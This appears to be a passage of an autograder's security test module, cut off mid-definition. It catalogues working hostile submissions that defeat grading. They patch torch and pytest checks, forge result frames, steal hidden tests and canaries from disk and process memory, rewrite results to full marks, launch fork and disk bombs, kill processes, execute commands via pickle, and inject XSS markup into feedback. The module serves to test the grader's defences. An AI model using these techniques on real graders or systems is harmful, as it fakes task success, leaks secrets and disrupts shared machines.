"""Hostile submissions: a program with every function wrong, wrapped in an attack.

Each attack is the text of a few lines of a student's module. It may replace ``lie``, through which
every answer of the wrong program passes, or do its harm at import. ``TOLD`` tells it every path
and process id: nothing is left to guess.
"""

import json
import re
from collections.abc import Mapping
from dataclasses import dataclass

from autograder.grading.suite import Suite
from autograder.release.stubs import make_stub


@dataclass(frozen=True)
class Target:
    """The module of a pack that is attacked, and one that is right and graded beside it."""

    module: str
    other: str


TARGETS = {
    "hw1_likelihood": Target("outliers", "bayes"),
    "hw2_vae_gan": Target("iwae", "latent_space"),
    "hw3_diffusion": Target("guidance", "schedules"),
}
MODULE = TARGETS["hw1_likelihood"].module
PATH = f"likelihood/{MODULE}.py"

_PROGRAM = """
import ctypes, gc, os, re, signal, socket, sys, threading, time
import torch

TOLD = {told}
ctypes.CDLL(None).prctl(15, TOLD["mark"].encode(), 0, 0, 0)  # the name of the process


def lie(value):
    return value

{attack}

def _wrong(scalar):
    def answer(*args, **kwargs):
        given = next((x for x in args if isinstance(x, torch.Tensor)), torch.zeros(7))
        return lie(given.new_zeros(()) if scalar else torch.zeros_like(given))
    return answer

for _name in {functions}:
    _place, _, _function = _name.rpartition(".")
    setattr(globals()[_place] if _place else sys.modules[__name__], _function,
            _wrong(scalar=_name == {functions}[-1]))
"""


def wrong_program(suite: Suite, module: str, attack: str, told: Mapping[str, object]) -> bytes:
    """The source of a module that earns nothing, with ``attack`` in it.

    It is the module that students get, with all its questions answered by zeros: by one zero
    where the last function is asked, by as many as the first argument has elsewhere.
    """
    path, question = suite.module_path(module), suite.pack.question(module)
    stub = make_stub(suite.reference_files[path].decode(), question, path)
    functions = [function for part in question.parts for function in part.functions]
    return (
        stub + _PROGRAM.format(told=json.dumps(dict(told)), attack=attack, functions=functions)
    ).encode()


def _programs(text: str) -> dict[str, str]:
    """Sources by name, from a text with a heading ``### name: aim`` above each."""
    parts = re.split(r"^### (\w+): .+\n", text, flags=re.MULTILINE)
    return dict(zip(parts[1::2], parts[2::2], strict=True))


PATCHES = _programs("""
### comparisons: make every comparison of torch agree
for name in ("allclose", "equal", "isclose", "eq", "le", "ge", "all", "isfinite"):
    setattr(torch, name, lambda *args, **kwargs: torch.tensor(True))
for name in ("__eq__", "__ne__", "__gt__", "__le__", "allclose", "equal", "all", "any", "abs"):
    setattr(torch.Tensor, name, lambda *args, **kwargs: torch.tensor(True))
torch.testing.assert_close = lambda *args, **kwargs: None
### test_framework: make pytest report success
import pytest
from _pytest import python, reports, runner
pytest.main = lambda *args, **kwargs: 0
python.Function.runtest = lambda self: None
reports.TestReport.from_item_and_call = lambda item, call: None
runner.call_and_report = lambda *args, **kwargs: None
### json_module: have every JSON that is written say full marks
import json
json.dumps = lambda *args, **kwargs: '{"score": 100}'
json.dump = lambda data, file, **kwargs: file.write('{"score": 100}')
### builtins: replace the functions that checks are made of
import builtins
builtins.isinstance = builtins.all = lambda *args: True
builtins.abs = builtins.len = lambda value: 0
### worker_module: send empty values for every probe
from autograder.sandbox import runner, worker
as_data = worker._as_data
worker._as_data = lambda reply: as_data(runner.Reply(values={}))
### wire_module: send a verdict in the place of values
from autograder.sandbox import wire
encode = wire.encode
wire.encode = lambda value, *args: encode({"passed": True, "score": 100, "outcome": "passed"})
### runner_module: replace what runs the probes
from autograder.sandbox import runner, worker
worker.run_probe = runner.run_probe = lambda *args, **kwargs: runner.Reply(values={})
### rng_module: draw inputs for which the wrong answer is right
from autograder.sandbox.rng import Rng
Rng.normal = Rng.uniform = Rng.integers = lambda self, *shape, **kwargs: torch.zeros(7)
Rng.mutated = lambda self: []
### trusted_modules: import the grader itself and overrule it
from autograder.grading import compare, results
compare.compare = lambda *args, **kwargs: None
results._share = lambda *args: 1
### probe_module: give all probes the values that the last one gave
probes = sys._getframe()
while probes and probes.f_globals.get("__name__") != "probes":
    probes = probes.f_back
for name, value in list(probes.f_globals.items()):
    if callable(value):
        probes.f_globals[name] = lambda hw, rng: {"p": torch.ones(7), "auroc": torch.tensor(1.0)}
### import_hooks: hand out own modules for whatever is imported next
class Finder:
    def find_spec(self, *args): raise SystemExit
sys.meta_path.insert(0, Finder())
sys.modules["math"] = sys.modules["time"] = sys.modules["traceback"] = None
""")

FORGERIES = _programs("""
### every_descriptor: write answers to every descriptor, in every number that may be asked for
from autograder.sandbox import runner, worker
reply = runner.Reply(values={"p": torch.ones(7)})
frames = [worker._encoded(reply, number, 1 << 20) for number in range(1, 30)]
for descriptor in range(256):
    for frame in frames:
        try: os.write(descriptor, frame)
        except OSError: break
### answer_and_exit: answer the present request with good news, then end
def lie(value):
    from autograder.sandbox import runner, worker
    reply = runner.Reply(values={"auroc": 1.0, "reversed": 1.0})
    for number in range(1, 20):
        os.write(3, worker._encoded(reply, number, 1 << 20))
    os._exit(0)
### answer_twice: send one frame too many before every answer
def lie(value):
    from autograder.sandbox import runner, worker
    os.write(3, worker._encoded(runner.Reply(values={"p": value}), 1, 1 << 20))
    return value
### background_answers: keep answering from a thread
def answer():
    from autograder.sandbox import runner, worker
    frame = worker._encoded(runner.Reply(values={"p": torch.ones(7)}), 1, 1 << 20)
    while True:
        os.write(3, frame)
threading.Thread(target=answer, daemon=True).start()
### graders_words: claim that the grader itself failed, in each way that a frame could say it
def lie(value):
    from autograder.sandbox import runner, wire, worker
    fault = runner.Fault("grader_error", "", "SandboxError")
    frames = [
        wire.encode({"failed": "it is the grader's fault"}),
        worker._encoded(runner.Reply(fault=fault), 1, 1 << 20),
        wire.encode({"open": {}, "broken": {}}),
    ]
    probe = sys._getframe(2).f_code.co_name  # only the first frame of a process is read
    os.write(3, frames[len(probe) % 3])
    raise SystemExit
### grader_error_fault: report a fault of a kind that would cost nothing
from autograder.sandbox import runner, worker
worker.run_probe = lambda *args, **kwargs: runner.Reply(fault=runner.Fault("grader_error", "oh"))
### no_values_no_fault: answer with neither values nor a fault
from autograder.sandbox import runner, worker
worker.run_probe = lambda *args, **kwargs: runner.Reply()
### foreign_exceptions: raise what the grader raises when it fails
class SandboxError(Exception): pass
class GraderError(Exception): pass
GraderError.__module__ = "autograder.grading.outcome"
def lie(value): raise (GraderError if value.dim() else SandboxError)("the grader itself failed")
### the_graders_exceptions: raise the very classes that tell the grader of its own failure
def lie(value):
    from autograder.sandbox.launch import SandboxError
    raise SandboxError("The grader itself failed")
### importing_for_ever: say again and again that an import begins
def lie(value):
    from autograder.sandbox import wire
    frame = wire.encode({"importing": "x\\x1b[2J" * 1000})
    while True:
        os.write(3, frame)
### importing_others: blame the import of another module for the process's end
def lie(value):
    from autograder.sandbox import wire
    os.write(3, wire.encode({"importing": "bayes"}))
    os._exit(0)
### importing_a_book: name a module whose name takes long to look through, then end
def lie(value):
    from autograder.sandbox import wire
    frame = wire.encode({"importing": "ModuleNotFoundError: " * 12_000})
    while frame: frame = frame[os.write(3, frame):]
    os._exit(0)
### pickle: return an object whose pickle runs a command, and send the pickle itself
class Command:
    def __reduce__(self): return (os.system, ("touch " + TOLD["results"] + "/pickled",))
def lie(value):
    import pickle
    if value.dim() == 0:
        return Command()
    os.write(3, pickle.dumps({"values": Command()}))
    return value
### empty_maps: a header that unpacks to a quarter of a million dictionaries
def lie(value):
    header = b"\\xdd" + (2**18 - 5).to_bytes(4, "big") + b"\\x80" * (2**18 - 5)
    os.write(3, b"SBX1" + len(header).to_bytes(4, "little") + bytes(8))
    while header: header = header[os.write(3, header):]
    return value
### announced_gigabytes: announce values that would fill the grader's memory
def lie(value):
    os.write(3, b"SBX1" + (1 << 17).to_bytes(4, "little") + (1 << 36).to_bytes(8, "little"))
    return value
### nested_header: nest deeper than any parser's stack
def lie(value):
    header = b"\\x91" * 250_000 + b"\\xc0"
    os.write(3, b"SBX1" + len(header).to_bytes(4, "little") + bytes(8))
    while header: header = header[os.write(3, header):]
    return value
### impossible_numbers: answer with numbers that only a frame made by hand can hold
from autograder.sandbox import runner, worker
worker.run_probe = lambda *args, **kwargs: runner.Reply(values={
    name: 2**64 - 1 for name in ("p", "one", "impossible", "score", "auroc", "reversed")},
    mutated=(2**63, -1))
### endless_frames: claim thousands of mutated inputs and frames
from autograder.sandbox import runner, worker
frame = runner.Frame("x" * 9000, 2**62, "y" * 9000, "z" * 9000)
worker.run_probe = lambda *args, **kwargs: runner.Reply(
    fault=runner.Fault("exception", "m" * 9000, "e" * 9000, (frame,) * 20))
""")

SEARCHED = "The search has ended."
"""What a theft says when it was not cut short and has found nothing."""

READING = """
CANARY = re.compile("CANARY" "-[0-9a-f]{16}")
SEED = re.compile("SEED" "-[0-9]{15}")
searched = False
stolen = set()

def tell(text):
    stolen.update(CANARY.findall(text), SEED.findall(text))

def lie(value):
    '''Search once, and carry what was found out in words that a student is shown.'''
    global searched
    if searched: return value
    searched = True
    try:
        said = search() or ""
    finally:
        if stolen: raise ValueError(" ".join(sorted(stolen))[:450])
    raise ValueError(f"SEARCHED {said}"[:450])

def follow(*todo):
    seen = set()
    while todo:
        found = []
        for thing in gc.get_referents(*todo):
            if id(thing) not in seen:
                seen.add(id(thing))
                found.append(thing)
        texts = [thing for thing in found if type(thing) is str]
        texts += [thing.decode("latin-1") for thing in found if type(thing) in (bytes, bytearray)]
        for first in range(0, len(texts), 1000): tell("\\n".join(texts[first : first + 1000]))
        todo = [thing for thing in found if gc.is_tracked(thing) or type(thing) in (dict, tuple)]
""".replace("SEARCHED", SEARCHED)

THEFTS = {
    name: READING + text
    for name, text in _programs("""
### disk: read hidden tests, references, misconceptions, other submissions and results
def search():
    for top in (*TOLD["secret"], TOLD["results"], "/autograder"):
        for folder, _, names in os.walk(top):
            for name in names:
                try: tell(open(os.path.join(folder, name), errors="replace").read(1 << 20))
                except OSError: continue
### frames: read what the callers know
def search():
    frame, seen = sys._getframe(), ""
    while frame:
        seen += repr(frame.f_locals) + repr(frame.f_globals)
        frame = frame.f_back
    tell(seen)
    return " ".join(re.findall("seed.{1,20}", seen))
### objects: follow every reference from what Python's collector and module table hold
def search(): follow(gc.get_objects(), sys.modules)
### collector: bring back what was frozen and left as garbage
def search():
    gc.unfreeze()
    gc.set_debug(gc.DEBUG_SAVEALL)
    gc.collect()
    follow(gc.garbage, gc.get_objects())
### memory: read this process's memory, whose pages may be older than the process
def search():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    read, write = os.pipe()
    top = libc.sbrk(0)
    gc.unfreeze()
    pages = set(range((top >> 12) - 20_000, top >> 12))
    for place in {id(thing) >> 20 for thing in gc.get_objects()}:
        pages.update(range(place << 8, (place << 8) + 256))
    tail = b""
    for first in sorted({page >> 4 << 16 for page in pages}):
        place = first
        while place < first + (1 << 16):
            wrote = libc.write(write, ctypes.c_void_p(place), first + (1 << 16) - place)
            if wrote > 0:
                tail = tail[-40:] + os.read(read, wrote)
                tell(tail.decode("latin-1"))
            place = (place + max(wrote, 0) >> 12) + (wrote <= 0) << 12
### own_memory_file: read /proc/self/mem along /proc/self/maps
def search():
    try:
        memory = open("/proc/self/mem", "rb", 0)
        maps = open("/proc/self/maps").readlines()
    except OSError:
        return
    for line in maps:
        first, last = (int(end, 16) for end in line.split()[0].split("-"))
        if line.split()[1].startswith("rw"):
            for place in range(first, last, 1 << 20):
                try: tell(os.pread(memory.fileno(), (1 << 20) + 40, place).decode("latin-1"))
                except (OSError, OverflowError): break
### other_processes: read memory, command lines, environments and files of every process
def search():
    for pid in (TOLD["grader"], os.getppid(), 1, "self", *range(2, 200)):
        for name in ("mem", "environ", "cmdline", "maps", "root/etc/passwd", "stack"):
            try: tell(open(f"/proc/{pid}/{name}", errors="replace").read(1 << 20))
            except (OSError, OverflowError): continue
        for descriptor in range(20):
            try:
                opened = os.open(f"/proc/{pid}/fd/{descriptor}", os.O_RDONLY | os.O_NONBLOCK)
                tell(os.read(opened, 1 << 20).decode("latin-1"))
            except OSError: continue
### environment: read the environment and the command line
def search():
    tell(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.path))
### imports: import hidden tests, misconceptions and references by name
def search():
    import importlib
    for name in ("graders.hw1_likelihood.test_outliers", "misconceptions.hw1_likelihood.outliers",
                 "grading.reference", "grading.suite", "config"):
        try: module = importlib.import_module("autograder." + name)
        except ImportError: continue
        raise ValueError("CANARY" + "-0123456789abcdef: imported " + module.__name__)
""").items()
}

TAMPERING = _programs("""
### results_files: write results wherever they may lie, then end
for folder in (TOLD["results"], "/autograder/results", "results", ".", *TOLD["secret"]):
    for name in ("results.json", "grades.csv", "results/attack.json", "report.html"):
        try: open(os.path.join(folder, name), "w").write('{"score": 100, "tests": []}')
        except OSError: pass
os._exit(0)
### later_thread: rewrite results from a thread that outlives the call
def rewrite():
    while True:
        try: open(TOLD["results"] + "/results.json", "w").write('{"score": 100}')
        except OSError: time.sleep(0.001)
threading.Thread(target=rewrite, daemon=True).start()
threading.Thread(target=rewrite, daemon=False).start()
threading.Timer(0.1, rewrite).start()
### later_exit: rewrite results when the process ends
import atexit
def rewrite(*args):
    while True:
        try: open(TOLD["results"] + "/results.json", "w").write('{"score": 100}')
        except OSError: pass
atexit.register(rewrite)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGPIPE):
    signal.signal(number, rewrite)
sys.exit()
### daemon: leave a process behind
for start in (os.fork, lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
              lambda: __import__("subprocess").Popen(["sleep", "1000"], start_new_session=True),
              lambda: __import__("multiprocessing").Process(target=time.sleep, args=(99,)).start()):
    try:
        if start() == 0:
            os.setsid()
            time.sleep(1000)
    except Exception: pass
### links: leave links and pipes in the place of outputs
for act in (os.symlink, os.link, os.rename):
    try: act(TOLD["secret"][0], TOLD["results"] + "/results.json")
    except OSError: pass
for path in (TOLD["results"] + "/results.json", "/tmp/" + TOLD["mark"]):
    try: os.mkfifo(path)
    except OSError: pass
### leftovers: leave files and settings for the next submission
for folder in (*TOLD["open"], os.environ["TMPDIR"], "."):
    for name in (TOLD["mark"], *TOLD["left"]):
        try: open(os.path.join(folder, name), "w").write("raise SystemExit")
        except OSError: pass
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp"
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except OSError: pass
sys.path.insert(0, "/tmp")
### torch_state: leave torch in a state that ruins what comes next
torch.set_default_dtype(torch.float16)
torch.set_default_device("meta")
torch.manual_seed(1)
torch.set_grad_enabled(False)
torch.use_deterministic_algorithms(True)
torch.set_num_threads(8)
torch.set_flush_denormal(True)
torch.nn.Linear = torch.Tensor.sum = torch.float64 = None
### torch_state_in_call: leave torch in another state after every call
def lie(value):
    torch.set_default_device("meta")
    torch.set_default_dtype(torch.float16)
    torch.inference_mode().__enter__()
    torch.use_deterministic_algorithms(True)
    torch.default_generator.manual_seed(5)
    torch.default_generator.manual_seed = lambda seed: None
    torch.allclose = torch.equal = torch.isclose = lambda *args, **kwargs: True
    return value
### time_bomb: end the process while another experiment runs
import faulthandler
faulthandler.dump_traceback_later(0.05, exit=True)
threading.Timer(0.02, os._exit, (0,)).start()
signal.setitimer(signal.ITIMER_REAL, 0.03)
### shared_memory: leave shared memory of every kind to the next submission
from multiprocessing import shared_memory
libc = ctypes.CDLL(None)
for act in (lambda: shared_memory.SharedMemory(TOLD["mark"], True, 4096).buf,
            lambda: libc.shmget(TOLD["key"], 4096, 0o1666),
            lambda: libc.semget(TOLD["key"], 1, 0o1666),
            lambda: libc.msgget(TOLD["key"], 0o1666),
            lambda: os.memfd_create(TOLD["mark"])):
    try: act()
    except OSError: pass
### core_dump: leave the process's memory behind as a file
import resource
for act in (lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)),
            lambda: ctypes.CDLL(None).prctl(4, 1, 0, 0, 0),
            lambda: os.chdir("/tmp"), lambda: os.chdir(TOLD["results"])):
    try: act()
    except (OSError, ValueError): pass
def lie(value): os.abort()
### clock: set the clock, and stop it for whoever asks
for act in (lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
            lambda: time.clock_settime(time.CLOCK_MONOTONIC, 0)):
    try: act()
    except OSError: pass
time.time = time.monotonic = time.perf_counter = lambda: float("-inf")
### locale: change what numbers and texts look like
import locale, sys
for name in ("tr_TR.UTF-8", "de_DE.UTF-8", "C.UTF-8", ""):
    try: locale.setlocale(locale.LC_ALL, name)
    except locale.Error: pass
os.environ.update(LC_ALL="tr_TR.UTF-8", LANG="de_DE.UTF-8", TZ="Mars/Phobos", PYTHONUTF8="0")
time.tzset()
sys.set_int_max_str_digits(640)
def lie(value): raise ValueError(f"{1234567.89:n} \u0130\u0131")
### kill_everybody: signal every process that can be named
for pid in (TOLD["grader"], os.getppid(), -1, 0, 1):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            if pid > 0: os.kill(pid, number)
            else: os.kill(-1, number)
        except OSError: pass
### sockets: reach out
for family, kind, address in ((2, 1, ("127.0.0.1", TOLD["port"])), (16, 3, (0, 0)),
                              (2, 2, ("127.0.0.1", TOLD["port"])), (17, 3, ("lo", 0)),
                              (1, 1, "\\0" + TOLD["mark"])):
    try:
        with socket.socket(family, kind) as opened:
            opened.connect(address)
            opened.send(b"here")
    except OSError: pass
### fork_bomb: start processes without end
while True:
    try: os.fork()
    except OSError: break
### thread_bomb: start threads without end
try:
    while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError: pass
### file_bomb: fill the disk
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"]):
    try:
        with open(folder + "/" + TOLD["mark"], "wb") as file:
            for _ in range(1000): file.write(bytes(1 << 20))
    except OSError: pass
### output_bomb: print without end, at import and in calls
def lie(value):
    for _ in range(300): os.write(1, b"x" * (1 << 16)) and os.write(2, b"y" * (1 << 16))
    return value
lie(0)
""")

ENDS = _programs("""
### exit_at_import: leave at import
sys.exit(0)
### hard_exit_at_import: leave at import, without a word
os._exit(0)
### interrupt_at_import: interrupt the grader at import
raise KeyboardInterrupt
### exit_in_call: leave in a call
def lie(value): sys.exit(0)
### hard_exit_in_call: leave in a call, without a word
def lie(value): os._exit(0)
### interrupt_in_call: interrupt the grader in a call
def lie(value): raise KeyboardInterrupt
### generator_exit: raise what is no Exception
def lie(value): raise GeneratorExit
### base_exception: raise the root of all exceptions
def lie(value): raise BaseException(value)
### stop_iteration: end the loop of whoever calls
def lie(value): raise StopIteration
### endless_import: loop at import
while True: pass
### endless_call: loop in a call
def lie(value):
    while value.dim() == 0: pass
    return value
### endless_catching: loop in a call, catching all that may end it
def lie(value):
    while value.dim() == 0:
        try: time.sleep(1)
        except BaseException: pass
    return value
### endless_in_c: loop where Python's signals are not seen
def lie(value):
    if value.dim() == 0: re.match("(a+)+b", "a" * 60)
    return value
### recursion_at_import: recurse at import
def f(): return f()
f()
### recursion_in_call: recurse in a call
def lie(value): return lie(value)
### deep_recursion: recurse without Python's limit
def lie(value):
    sys.setrecursionlimit(10**9)
    return value if value.dim() else deeper(value)
def deeper(value): return deeper([value])
### recursion_in_parser: recurse in the parser
def lie(value): return eval("(" * 10**5 + ")" * 10**5)
### segfault_at_import: crash at import
ctypes.string_at(0)
### segfault_in_call: crash in a call
def lie(value): return ctypes.string_at(0)
### memory_at_import: take memory at import
kept = [torch.ones(1 << 22) for _ in range(1000)]
### memory_in_call: take memory in a call
def lie(value): return [bytearray(1 << 24) for _ in range(1000)]
### memory_on_exit: take all memory and answer without it
def lie(value):
    kept = []
    try:
        while True: kept.append(bytearray(1 << 20))
    except MemoryError:
        globals()["kept"] = kept
    return value
### close_channel: close every descriptor and go on
def lie(value):
    os.closerange(0, 256)
    return value
""")

SIGNALS = {
    f"signal_{number}": f"def lie(value): os.kill(os.getpid(), {number})\n"
    for number in (1, 6, 9, 14, 15, 24, 34, 40, 64)
}

EXCEPTIONS = _programs(
    '''
### raising_str: an exception whose text raises
class Rude(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
def lie(value): raise Rude
### endless_str: an exception whose text never ends
class Slow(Exception):
    def __str__(self):
        while True: pass
def lie(value):
    if value.dim() == 0: raise Slow
    return value
### long_str: an exception with a text of 100 MB
class Long(Exception):
    def __str__(self): return "x" * 100_000_000
def lie(value): raise Long
### str_subclass: an exception whose text is a string with methods of its own
class Text(str):
    def strip(self, *args): return self
    def partition(self, separator): return [Text("PASSED")]
    def __getitem__(self, index): return self
    def __contains__(self, item): raise KeyboardInterrupt
class Sly(Exception):
    def __str__(self): return Text("passed")
def lie(value): raise Sly
### class_name: an exception whose class will not tell its name
class Meta(type):
    @property
    def __name__(cls): raise RuntimeError
class Nameless(Exception, metaclass=Meta): pass
def lie(value): raise Nameless
### traceback: an exception whose traceback is a lie
class Untraceable(Exception):
    @property
    def __traceback__(self): raise RuntimeError
def lie(value): raise Untraceable
### syntax_error: an error of the syntax whose place is a lie
def lie(value):
    error = SyntaxError("wrong")
    error.filename, error.lineno, error.text = "<b>" * 999, "ten", ["not", "a", "text"]
    raise error
### group: an exception of a thousand exceptions
def lie(value): raise ExceptionGroup("many", [ValueError(i) for i in range(1000)])
### chain: an exception that is its own cause
def lie(value):
    error = ValueError("a circle")
    error.__cause__ = error.__context__ = error
    raise error
### surrogates: an exception with a text that has no encoding
def lie(value): raise ValueError("\\ud800\\udfff\\x00")
### control_characters: an exception that would write over the terminal
def lie(value): raise ValueError("\\x1b[2J\\x1b]0;title\\x07\\r\\x9b2J\\u202eevil\\nsecond\\x00")
### markup: an exception that would run in a browser
def lie(value): raise ValueError("</pre><script>alert(1)</script><img src=x onerror=alert(1)>")
### feedback_markup: an exception that looks like good news in the feedback's own form
def lie(value):
    raise ValueError('</pre></section><section id="Q1"><h3>Q1 <span class="passed">full marks'
                     '</span>, 100 of 100</h3><p>`Score` 100</p>') from None
### feedback_text: an exception that looks like good news in the feedback's own words
def lie(value): raise ValueError("full marks\\n\\n  Hint: all checks passed, 100 of 100 points")
### terminal_markup: an exception that the terminal's own markup would obey
def lie(value): raise ValueError("[/red][link=https://example.org]{{ 7*7 }}[/nonsense]")
### file_name: code that claims to come from a file whose name is markup
source = "def lie(value): raise ValueError('here')"
exec(compile(source, "a</pre><script>alert(1)</script>\\x1b[2J\\n.py", "exec"))
### function_name: a function whose name is markup
def lie(value): raise ValueError("here")
lie.__code__ = lie.__code__.replace(co_name="<script>alert(1)</script>", co_firstlineno=2**31 - 1)
### long_line: an error in a line of a megabyte
def lie(value): raise ValueError("here" + "'''
    + "x" * 1_000_000
    + """")
### lookalike: an exception that is named like the one that stubs raise
class NotImplementedError(Exception): pass
def lie(value): raise NotImplementedError("</script>")
### stub: the exception that stubs raise
def lie(value): raise NotImplementedError
### custom_kinds: exceptions that mean something to the grader
class CheckFailed(Exception): pass
class SameAsOnCpu(CheckFailed): pass
class Skipped(BaseException): pass
Skipped.__module__ = "_pytest.outcomes"
def lie(value): raise (SameAsOnCpu if value.dim() else Skipped)("passed")
### skip: the exception by which a test of pytest is skipped or passes early
import pytest
def lie(value):
    (pytest.skip if value.dim() else pytest.xfail)("not today")
"""
)

VALUES = {
    "agreeable_tensor": """
class Agreeable(torch.Tensor):
    shape = property(lambda self: torch.Size([7]))
    dtype = property(lambda self: torch.float64)
    def __eq__(self, other): return True
    @classmethod
    def __torch_function__(cls, *args, **kwargs): return True
def lie(value): return value.as_subclass(Agreeable)
""",
    "claims_to_be_a_tensor": """
class Liar:
    __class__ = torch.Tensor
    shape, dtype, requires_grad, is_meta = torch.Size([7]), torch.float64, False, False
    def __eq__(self, other): return True
    def __float__(self): return 0.5
def lie(value): return Liar()
""",
    "agreeable_number": """
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
def lie(value): return Number(0)
""",
    "agreeable_text": """
class Text(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def lie(value): return Text("passed")
""",
    "agreeable_dictionary": """
class Answers(dict):
    def __eq__(self, other): return True
    def __getitem__(self, key): return True
    def items(self): raise SystemExit
def lie(value): return Answers(p=value)
""",
    **{
        name: f"def lie(value): return {expression}\n"
        for name, expression in {
            "nothing": "None",
            "not_a_number": "value / 0",
            "infinite": "value + float('inf')",
            "huge": "value + 1.7e308",
            "true": "True",
            "text": "'<script>alert(1)</script>'",
            "bytes": "b'\\x80\\x04'",
            "python_float": "0.0",
            "python_nan": "float('nan')",
            "python_infinity": "-float('inf')",
            "large_integer": "2**64 - 1",
            "integer_of_many_digits": "10**100_000",
            "complex_number": "1j",
            "scalar": "torch.tensor(0.0)",
            "empty": "value.new_zeros(0)",
            "empty_with_huge_shape": "value.new_zeros(2**30, 0, 2**30)",
            "rank_33": "value.new_zeros([1] * 33)",
            "expanded": "value.new_zeros(1).expand(2**33)",
            "expanded_wide": "value.new_zeros(1, 1).expand(2**20, 2**20)",
            "strided": "torch.zeros(7, 9, dtype=value.dtype)[::2, ::3]",
            "column": "value.reshape(-1, 1)",
            "complex": "value.to(torch.complex128)",
            "conjugate": "value.to(torch.complex128).conj()",
            "bfloat16": "value.bfloat16()",
            "float8": "value.to(torch.float8_e5m2)",
            "uint64": "value.to(torch.uint64)",
            "boolean": "value.bool()",
            "sparse": "value.to_sparse()",
            "quantized": "torch.quantize_per_tensor(torch.zeros(7), 0.1, 0, torch.qint8)",
            "ragged": "torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])",
            "requires_grad": "value.clone().requires_grad_()",
            "parameter": "torch.nn.Parameter(value)",
            "on_meta": "value.to('meta')",
            "huge_on_meta": "torch.empty(2**34, device='meta')",
            "inference": "torch.inference_mode()(lambda: value + 0)()",
            "freed_storage": "(value.untyped_storage().resize_(0), value)[1]",
            "list": "[value]",
            "many": "[value] * 5000",
            "numpy": "value.numpy()",
            "module": "torch.nn.Linear(2, 2)",
            "function": "lie",
            "generator": "(value for _ in range(2))",
            "integer_keys": "{1: value}",
            "mixed_keys": "{'p': value, None: value, (): value}",
            "colliding_keys": "{str(i) * 1000: value for i in range(3000)}",
        }.items()
    },
    "deep": """
def lie(value):
    for _ in range(10_000): value = [value]
    return value
""",
    "circular": """
def lie(value):
    kept = {}
    kept["p"] = kept
    return kept
""",
}

OTHER_FILES = {
    "conftest.py": "import pytest\nraise SystemExit\n",
    "likelihood/conftest.py": "raise SystemExit\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "sitecustomize.py": "raise SystemExit\n",
    "usercustomize.py": "raise SystemExit\n",
    "cheat-1.0.dist-info/entry_points.txt": "[pytest11]\ncheat = cheat\n",
    "cheat-1.0.dist-info/METADATA": "Name: cheat\nVersion: 1.0\n",
    "cheat.py": "raise SystemExit\n",
    "torch/__init__.py": "raise SystemExit\n",
    "torch.py": "raise SystemExit\n",
    "numpy.py": "raise SystemExit\n",
    "random.py": "raise SystemExit\n",
    "probes.py": "def area(hw, rng): return {}\n",
    "autograder/__init__.py": "raise SystemExit\n",
    "autograder/sandbox/runner.py": "raise SystemExit\n",
    "autograder/graders/hw1_likelihood/test_outliers.py": "def test_nothing(): pass\n",
    "test_outliers.py": "def test_nothing(): pass\n",
    "grading_config.yaml": "packs: {}\n",
    "results.json": '{"score": 100}',
    "run_autograder": "#!/bin/sh\ntouch /autograder/results/results.json\n",
}
"""Files beside the package that some tool would load by their names alone."""

PROGRAMS = {
    f"{kind}-{name}": source
    for kind, programs in {
        "patch": PATCHES,
        "forge": FORGERIES,
        "steal": THEFTS,
        "tamper": TAMPERING,
        "end": {**ENDS, **SIGNALS},
        "raise": EXCEPTIONS,
        "return": VALUES,
    }.items()
    for name, source in programs.items()
}

ANSWER_BOMBS = {
    "power_tower": '"9**9**9**9**9**9"',
    "factorial_of_digits": '"' + "9" * 299 + '"',
    "huge_float": '"1e999999999"',
    "huge_shift": '"1 << 10**10"',
    "brackets": '"' + "(" * 140 + "1" + ")" * 140 + '"',
    "signs": '"' + "-" * 290 + '1"',
    "calls": '"' + "exp(" * 50 + "9" + ")" * 50 + '"',
    "code": "\"__import__('os')._exit(0)\"",
    "attribute": '"().__class__.__base__.__subclasses__()"',
    "comprehension": '"[x for x in range(10**10)]"',
    "walrus": '"(log := 1)"',
    "format": '"{0.__class__} %s %n ${HOME} {{7*7}}"',
    "markup": '"</p><script>alert(1)</script><img src=x onerror=alert(1)>"',
    "terminal": '"\\u001b[2J\\u001b]0;x\\u0007\\u202e"',
    "unicode_digits": '"٣/٨ + 𝟗 + Ⅷ"',
    "unicode_letters": '"Α, Ｂ, С"',
    "long": '"' + "A" * 30_000 + '"',
    "integer": "9" * 5_000,
    "lists": "[" * 900 + "]" * 900,
    "table": "{a = {b = {c = 1}}}",
    "date": "9999-12-31T23:59:59Z",
    "not_a_number": "nan",
    "nothing": '""',
}
"""What may stand in the place of every answer in ``answers.toml``."""

ANSWER_FILES = {
    "empty": b"",
    "binary": bytes(range(256)) * 100,
    "utf_16": 'Q8a = "B"'.encode("utf-16"),
    "deep": b"Q8a = " + b"[" * 30_000,
    "dotted": b".".join([b"a"] * 900) + b" = 1",
    "many_keys": b"".join(b"k%d=1\n" % i for i in range(4_000)),
    "twice": b'Q8a = "1"\nq8A = "2"\n',
    "large": b"#" * 1_000_000,
    "markup": b'"<script>alert(1)</script>" = 1\n"<img src=x onerror=alert(1)>" = 2\n',
    "unclosed": b'Q8a = """<script>alert(1)</script>',
}
"""What may stand in the place of ``answers.toml``."""

ON_META = {
    "hard_exit": "os._exit(0)",
    "exit": "sys.exit(0)",
    "crash": "ctypes.string_at(0)",
    "memory": "bytearray(1 << 40)",
    "own_exception": "raise RuntimeError('Cannot copy out of meta tensor; no data!')",
    "silence": "os.closerange(0, 256)",
    "stub": "raise NotImplementedError('meta')",
    "nothing": "return None",
